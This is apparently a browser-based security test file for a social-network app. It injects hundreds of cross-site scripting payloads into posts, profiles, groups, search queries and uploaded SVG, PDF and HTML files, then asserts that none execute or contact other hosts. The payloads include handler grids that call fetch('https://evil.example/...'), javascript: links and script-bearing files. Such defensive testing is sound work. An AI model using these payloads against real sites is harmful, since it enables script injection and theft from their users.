import type { Browser, Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setPassword } from '#src/access/passwords.ts';
import { editGroup } from '#src/groups/edit.ts';
import { uploadFile } from '#src/media/upload.ts';
import { editProfile } from '#src/people/edit.ts';
import { transaction } from '#src/platform/database.ts';
import type { PostId } from '#src/platform/ids.ts';
import { publishPost } from '#src/posts/publish.ts';
import { openScene, type Scene } from '#test/adversary/scene.ts';
import { hostileHtml } from '#test/platform/hostile-html.ts';
import { launch, signIn, visit, type Visitor } from '#test/support/browser.ts';
import { until } from '#test/support/http.ts';
import { activity, note } from '#test/support/peer-actor.ts';

// security.md, "HTML and files", in a real browser: no dialog, no request to elsewhere, and nothing left for the page's policy to stop.
const password = 'a good long password';
let scene: Scene;
let browser: Browser;
let visitor: Visitor;
const seen: string[] = [];
const paths: string[] = [];

/** Every handler on every element that browsers fire it on: what a list of single payloads forgets. */
const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'details open',
  'input autofocus',
  'body',
  'a href=x',
  'object data=x',
  'embed src=x',
  'p style=animation-name:x',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onbeforematch',
];
const grid = elements.flatMap((element) =>
  handlers.map(
    (handler) =>
      `<${element} ${handler}="alert(1);fetch('https://evil.example/${handler}')">x</${element.split(' ')[0]}>`,
  ),
);
/** What JSON cannot carry is refused at the door (test/adversary/html.test.ts). */
const vectors = [...hostileHtml, ...grid].filter((html) => html.isWellFormed() && !html.includes('\0'));
const batches = (size: number): string[][] =>
  Array.from({ length: Math.ceil(vectors.length / size) }, (_, i) => vectors.slice(i * size, (i + 1) * size));

beforeAll(async () => {
  scene = await openScene();
  const { alpha, ada } = scene;
  await transaction(alpha.db, (tx) => setPassword(tx, ada.id, password));
  await fromPartner();
  await fromColleagues();
  browser = await launch();
  visitor = await visit(browser);
  watch(visitor.page);
  await signIn(visitor, alpha, 'ada', password);
});
afterAll(async () => {
  await browser?.close();
  await scene?.end();
});

/** Bob of Beta sends them in everything a note has, and people of Beta have them for names. */
async function fromPartner(): Promise<void> {
  const { alpha, ada, beta, bob } = scene;
  for (const [i, batch] of batches(6).entries()) {
    const one = batch[0] ?? '';
    const object = note(bob, '', {
      content: `${batch.join('\n')} Kolben`,
      name: `${one} Kolben`,
      ...(i % 3 === 0 ? { summary: one, sensitive: true } : {}),
      ...(i % 4 === 0
        ? {
            type: 'Question',
            oneOf: batch.slice(0, 4).map((name, n) => ({
              type: 'Note',
              name: `${n} ${name}`,
              replies: { type: 'Collection', totalItems: n },
            })),
          }
        : {}),
      attachment: ['image/png', 'application/pdf', 'image/svg+xml', 'text/html'].map((mediaType, n) => ({
        type: 'Document',
        ...{ mediaType, url: `${beta.origin}/f/${i}-${n}`, name: `${one} Kolben` },
      })),
      tag: [
        { type: 'Mention', href: ada.uri, name: one },
        { type: 'Hashtag', href: `${beta.origin}/tags/x`, name: `#${one}` },
      ],
      to: [`${bob.uri}/followers`, ada.uri],
    });
    await beta.post(alpha.origin, activity(bob, 'Create', object), bob);
  }
  for (const [i, html] of vectors.filter((_, n) => n % 12 === 0).entries()) {
    const actor = beta.actor(`x${i}`);
    actor.document = { ...actor.document, name: html, summary: html };
    const sent = note(actor, 'Kolben', {
      to: [ada.uri],
      tag: [{ type: 'Mention', href: ada.uri, name: '@ada' }],
    });
    await beta.post(alpha.origin, activity(actor, 'Create', sent), actor);
  }
}

/** The same from our own people: Markdown that is HTML, titles, polls, files, descriptions, a group. */
async function fromColleagues(): Promise<void> {
  const { alpha, ada } = scene;
  const { db } = alpha.app;
  const eve = await alpha.person('evelyn', { name: 'Evelyn' });
  const room = await alpha.group('boeses', eve, 'open');
  const picture = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#a33' } })
    .png()
    .toBuffer();
  const ids: PostId[] = [];
  for (const [i, batch] of batches(8).entries()) {
    const one = batch[0] ?? '';
    const fileIds =
      i % 3 === 0
        ? [
            (
              await uploadFile(db, eve.id, {
                bytes: picture,
                mediaType: 'image/png',
                name: `${one}.png`,
                alt: `${one} Kolben`.slice(0, 1_000),
              })
            ).id,
          ]
        : [];
    const draft = {
      source: `${batch.join('\n\n')}\n\nKolben @ada [x](javascript:alert(1)) ![x](https://evil.example/x.png)`,
      title: `${one} Kolben`.slice(0, 300),
      ...(i % 4 === 1 ? { summary: one.slice(0, 500) } : {}),
      ...(i % 5 === 2
        ? {
            poll: { options: [one.slice(0, 150), `${one.slice(0, 140)} 2`], multiple: false, closesAt: null },
          }
        : {}),
      fileIds,
    };
    ids.push(await transaction(db, (tx) => publishPost(tx, eve.id, draft)));
  }
  await transaction(db, async (tx) => {
    await editGroup(tx, eve.id, room.id, {
      name: '<img src=x onerror=alert(1)>',
      description: vectors.slice(0, 40).join('\n\n'),
    });
    await editProfile(tx, eve.id, {
      name: '"><svg onload=alert(1)>',
      bio: vectors.slice(40, 80).join('\n\n'),
    });
  });
  const home = await alpha.db<{ id: string }[]>`select id from posts order by id desc limit 400`;
  const deep = home.filter((_, i) => i % 6 === 0).map(({ id }) => `/posts/${id}`);
  paths.push(
    '/',
    '/?feed=all',
    '/notifications',
    '/groups',
    '/groups/boeses',
    '/@evelyn',
    '/people?q=kolben',
  );
  paths.push(
    '/search?q=kolben',
    '/search?q=kolben&kind=posts',
    '/search?q=kolben&kind=files',
    '/search?q=alert',
    `/search?q=${encodeURIComponent('"><script>alert(1)</script>')}`,
    ...deep,
  );
  expect([ids.length > 20, ada.handle]).toEqual([true, 'ada']);
}

function watch(page: Page): void {
  const { origin } = scene.alpha;
  const { filesOrigin } = scene.alpha.app.config;
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()} at ${page.url()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const at = new URL(request.url()).origin;
    if (at !== origin && at !== filesOrigin && at !== 'null')
      seen.push(`request: ${request.url()} at ${page.url()}`);
  });
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted ?Type|Refused to/i.test(message.text()))
      seen.push(`policy: ${message.text()} at ${page.url()}`);
  });
  page.on('pageerror', (error) => seen.push(`script: ${error.message} at ${page.url()}`));
}

describe('in a browser', () => {
  it('hundreds of payloads do nothing: in feed, threads, search, notifications, groups and profiles', async () => {
    const { page } = visitor;
    expect(vectors.length).toBeGreaterThan(220);
    for (const path of paths) {
      const answer = await page.goto(scene.alpha.origin + path, { waitUntil: 'load' });
      expect([path, answer?.status()]).toEqual([path, 200]);
      // What opens on demand counts too, and what waits for the pointer.
      await page.evaluate(`document.querySelectorAll('main details').forEach((d) => (d.open = true))`);
      const foreign = await page.evaluate<string[]>(
        `[...document.querySelectorAll('main *')].filter((e) => /^(script|iframe|object|embed|base|meta|link|style|math|frame|marquee)$/i.test(e.localName)
          || [...e.attributes].some((a) => /^on/i.test(a.name) || (/^(href|src|action|formaction|xlink:href)$/.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value))))
          .map((e) => e.outerHTML.slice(0, 200))`,
      );
      expect([path, foreign]).toEqual([path, []]);
    }
    expect(seen).toEqual([]);
  });

  it('and what one of them would do is noticed', async () => {
    const { page } = visitor;
    await page.goto(scene.alpha.origin);
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' }))`,
    );
    await until('the policy spoke', () => seen.length > 0);
    expect(seen.splice(0).join()).toMatch(/evil\.example/);
  });

  it('the pages really showed them: as text', async () => {
    const { page } = visitor;
    await page.goto(`${scene.alpha.origin}/search?q=kolben&kind=posts`);
    const text = await page.evaluate<string>(`document.querySelector('main').textContent`);
    expect(text).toContain('alert(1)');
    expect(await page.locator('main mark').count()).toBeGreaterThan(5);
  });
});

describe('a file opened by itself', () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
  it.each([
    ['an SVG with a script', Buffer.from(svg), 'a.svg'],
    ['HTML that says it is PNG', Buffer.from('<!doctype html><script>alert(1)</script>'), 'a.png'],
    [
      'a PDF with a script',
      Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
      'a.pdf',
    ],
    [
      'XHTML',
      Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>'),
      'a.xhtml',
    ],
  ])('%s is downloaded from the files’ origin, and does not run', async (_, bytes, name) => {
    const { alpha, ada } = scene;
    const file = await uploadFile(alpha.app.db, ada.id, { bytes, name, mediaType: 'image/png', alt: '' });
    const { page } = visitor;
    await page.goto(`${alpha.origin}/settings`);
    const download = page.waitForEvent('download');
    await page.evaluate(`location.href = '/files/${file.uuid}'`);
    const url = (await download).url();
    expect(new URL(url).origin).toBe(alpha.app.config.filesOrigin);
    expect(page.url()).toBe(`${alpha.origin}/settings`);
    expect(seen).toEqual([]);
  });

  it('a picture is shown in the page from the files’ origin', async () => {
    const { page } = visitor;
    const { alpha } = scene;
    await page.goto(`${alpha.origin}/@evelyn`);
    const sizes = await page.evaluate<number[]>(
      `Promise.all([...document.querySelectorAll('main img[src^="${alpha.app.config.filesOrigin}"]')].slice(0, 3).map(async (img) => { img.loading = 'eager'; await img.decode(); return img.naturalWidth; }))`,
    );
    expect(sizes.length).toBeGreaterThan(0);
    expect(sizes.every((size) => size > 0)).toBe(true);
  });
});
